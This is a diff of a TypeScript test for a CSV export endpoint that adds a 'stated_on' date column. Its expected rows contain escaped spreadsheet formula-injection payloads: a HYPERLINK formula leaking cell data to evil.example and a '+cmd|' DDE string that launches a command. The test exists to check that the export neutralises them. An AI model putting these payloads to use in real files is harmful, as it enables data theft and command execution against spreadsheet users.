@@ -20,7 +20,8 @@ import { restoreSeed } from './shared-neo4j';
 
 /** The file imported first is of the older shape, without quote_kind: its quotes are stored as reported. */
 const HEADER = 'actor,actor_kind,event,event_date,stance,quote,source_title,source_url,source_date';
-const EXPORT_HEADER = 'actor,actor_kind,event,event_date,stance,quote,quote_kind,source_title,source_url,source_date';
+const EXPORT_HEADER =
+  'actor,actor_kind,event,event_date,stance,stated_on,quote,quote_kind,source_title,source_url,source_date';
 const ROWS = [
   'France,state,UN Resolution ES-11/1,2022-03-02,condemnation,"France voted in favour, saying ""aggression"" must stop",UN voting record,https://example.org/vote/es-11-1,2022-03-02',
   'Zoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried",Her blog,https://example.org/blog/zoe,2022-03',
@@ -96,21 +97,24 @@ describe('GET /api/export', () => {
     csv1 = csv.text;
     expect(csv1.split('\r\n')[0]).toBe(EXPORT_HEADER);
     expect(csv1).toContain('"France voted in favour, saying ""aggression"" must stop"');
-    expect(csv1).toContain(',condemnation,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",');
-    expect(csv1).toContain(",condemnation,'-2+3 in favour,");
-    expect(csv1).toContain(",condemnation,'@SUM(A1:A9),");
-    expect(csv1).toContain(",support,'+cmd|' /C calc'!A0,");
+    // Each stance stated on its source's date, which the file did not give.
+    expect(csv1).toContain(',condemnation,2022-03-02,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",');
+    expect(csv1).toContain(",condemnation,2022-03-02,'-2+3 in favour,");
+    expect(csv1).toContain(",condemnation,2022-03-02,'@SUM(A1:A9),");
+    expect(csv1).toContain(",support,2022-03-02,'+cmd|' /C calc'!A0,");
     // Actors are named (their ids follow from their names); the seed's events have hand-made ids that do not
     // follow from their titles, so the CSV names them by id, which an import matches again.
-    expect(csv1).toContain('\r\nTaliban government,government,russia-recognizes-taliban,2025-07-03,support,');
+    expect(csv1).toContain('\r\nTaliban government,government,russia-recognizes-taliban,2025-07-03,support,2025-07,');
     expect(csv1).toContain(
-      '\r\nZoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,"Two lines:\nwe are worried",reported,',
+      '\r\nZoë Ångström,person,UN Resolution ES-11/1,2022-03-02,caution,2022-03,"Two lines:\nwe are worried",reported,',
     );
     // Whose words: the seed's own words of Muttaqi are direct, the reporter's sentence around them reported.
     expect(csv1).toContain(
-      ',russia-recognizes-taliban,2025-07-03,support,new phase of positive relations,direct,Russia Becomes First Country',
+      ',russia-recognizes-taliban,2025-07-03,support,2025-07,new phase of positive relations,direct,Russia Becomes First Country',
     );
-    expect(csv1).toMatch(/\r\nFawzia Koofi,person,[^\r]*,condemnation,"Fawzia Koofi, a former [^"]*",reported,/);
+    expect(csv1).toMatch(
+      /\r\nFawzia Koofi,person,[^\r]*,condemnation,2025-07,"Fawzia Koofi, a former [^"]*",reported,/,
+    );
     const koofi = doc.stances.find((s: { actor: string }) => s.actor === 'fawzia-koofi');
     expect(koofi.evidence.map((e: { kind: string }) => e.kind)).toEqual(['reported']);
     const muttaqi = doc.stances.find((s: { actor: string }) => s.actor === 'amir-khan-muttaqi');
